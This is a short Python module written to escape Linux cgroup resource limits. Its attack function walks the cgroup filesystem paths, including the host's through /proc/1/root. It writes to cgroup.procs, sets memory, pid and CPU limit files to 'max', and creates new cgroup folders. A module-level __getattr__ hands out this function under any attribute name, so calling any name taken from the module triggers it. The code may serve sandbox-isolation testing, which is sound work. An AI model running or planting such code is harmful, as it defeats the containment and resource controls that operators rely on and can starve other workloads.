"""Leaves its control group, or raises its limits, wherever it finds the kernel's files for that."""

import os

PLACES = ("/groups", "/sys/fs/cgroup", "/proc/1/root/sys/fs/cgroup")
LIMITS = ("memory.max", "memory.limit_in_bytes", "pids.max", "cpu.max", "cpu.cfs_quota_us")


def attack(*arguments, **keywords):
    moved = []
    for place in PLACES:
        for folder, _, files in os.walk(place):
            for file in {"cgroup.procs", *LIMITS} & set(files):
                try:
                    with open(f"{folder}/{file}", "w") as opened:
                        opened.write("0" if file == "cgroup.procs" else "max")
                    moved.append(f"{folder}/{file}")
                except OSError:
                    continue
            try:
                os.mkdir(f"{folder}/own")
                moved.append(f"{folder}/own")
            except OSError:
                continue
    raise RuntimeError(f"moved to {moved[:3]}")


def __getattr__(name):
    return attack
